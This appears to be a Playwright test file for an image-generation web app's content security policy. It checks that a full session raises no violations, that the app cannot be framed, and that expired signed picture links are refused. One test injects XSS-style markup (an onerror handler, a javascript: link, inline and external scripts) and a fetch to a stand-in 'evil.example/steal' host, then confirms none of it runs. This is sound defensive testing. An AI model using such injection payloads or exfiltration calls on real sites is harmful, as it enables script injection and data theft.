"""The content security policy in a real browser: a whole session breaks no rule of it, and what it forbids does not run."""

from __future__ import annotations

import time

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import open_studio
from tests.browser.hands import bring, canvas, chip, generate, picture_of, send, stage, stroke, strokes, tab, write
from tests.browser.test_sources import give
from tests.studio import Studio
from ui.links import sign

pytestmark = pytest.mark.browser

_LISTEN = """window.broken = [];
  document.addEventListener("securitypolicyviolation", (event) => window.broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));"""


def test_a_whole_session_breaks_no_rule(context: BrowserContext, studio: Studio) -> None:
    context.add_init_script(_LISTEN)
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(f"{message.type}: {message.text}") if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: said.append(f"page error: {error}"))
    failed: list[str] = []
    page.on("requestfailed", lambda request: failed.append(f"{request.url} {request.failure}"))
    page.on("response", lambda answer: failed.append(f"{answer.status} {answer.url}") if answer.status >= 400 else None)
    open_studio(page, studio)
    write(page, "a white lighthouse by the sea", steps=6)
    for made in (1, 2):
        generate(page)
        expect(page.locator(".strip-list .strip-open img")).to_have_count(made, timeout=60_000)
        stage(page, "done")
    page.locator('.stage-actions [data-do="compare"]').click()
    page.locator(".strip-list li .strip-open").last.click()
    expect(page.locator("#wipe img").first).to_be_visible()
    page.keyboard.press("Escape")
    send(page, "Inpaint")
    _, x, y = canvas(page)
    stroke(page, x, y)
    strokes(page, 1)
    generate(page)
    stage(page, "done")
    tab(page, "Image")
    give(page, "drop", picture_of(320, 200))
    expect(page.locator(".source-name")).to_have_text("320 × 200")
    chip(page, "fit", "Pad")
    generate(page)
    stage(page, "done")
    tab(page, "Upscale")
    bring(page, picture_of(128, 128), "128 × 128")
    with page.expect_download():
        page.locator('.stage-actions [data-do="download"]').click()
    page.reload()
    page.locator('.stage[data-loaded="yes"]').wait_for()
    broken = page.evaluate("window.broken")
    print(f"violations: {broken}; console: {said}; failed requests: {failed}")
    assert broken == []
    assert [one for one in said if "Content Security Policy" in one or "page error" in one] == []
    assert [one for one in failed if studio.url not in one] == []
    assert [one for one in failed if one.startswith(("403", "404", "405", "415"))] == []


def test_markup_that_got_in_would_not_run(context: BrowserContext, studio: Studio) -> None:
    context.add_init_script(_LISTEN)
    page = context.new_page()
    open_studio(page, studio)
    page.evaluate("""() => {
      const box = document.createElement("div");
      box.innerHTML = `<img src=x onerror="window.ran = 1"><a id=trap href="javascript:window.ran=2">x</a>`;
      document.body.append(box);
      const script = document.createElement("script");
      script.textContent = "window.ran = 3";
      document.body.append(script);
      const other = document.createElement("script");
      other.src = "https://evil.example/x.js";
      document.body.append(other);
      document.getElementById("trap").click();
      fetch("https://evil.example/steal").catch(() => 0);
    }""")
    page.wait_for_function("window.broken.length >= 5")
    assert page.evaluate("window.ran") is None


def test_a_page_of_another_site_cannot_frame_the_studio(context: BrowserContext, studio: Studio) -> None:
    page = context.new_page()
    page.route("http://other.example/", lambda route: route.fulfill(content_type="text/html", body=f'<iframe src="{studio.url}"></iframe>'))
    page.goto("http://other.example/")
    page.wait_for_timeout(1000)
    inner = page.frames[1]
    assert "#go" not in inner.content()
    assert inner.locator("#go").count() == 0


def test_a_page_that_slept_for_a_week_shows_its_pictures(page: Page, studio: Studio) -> None:
    write(page, "a red tower by the sea", steps=3)
    generate(page)
    stage(page, "done")
    secret = (studio.data / "secret").read_bytes()
    address = page.locator(".stage-picture").get_attribute("src") or ""
    name = address.split("/")[-1].split(".png")[0]
    stale = f"/pictures/{name}.png?s={sign(secret, name, time.time() - 7 * 86400)}"
    begin = time.perf_counter()
    width = page.evaluate(
        """(url) => new Promise((done, fail) => {
      const picture = document.querySelector(".stage-picture");
      picture.onload = () => done(picture.naturalWidth); picture.onerror = () => fail("stayed stale"); picture.src = url; })""",
        stale,
    )
    print(f"a link of last week shows its picture after {1000 * (time.perf_counter() - begin):.0f} ms")
    assert width == 256
    other = page.context.browser.new_context()  # type: ignore[union-attr]
    assert other.request.get(studio.url + stale).status == 403
    other.close()
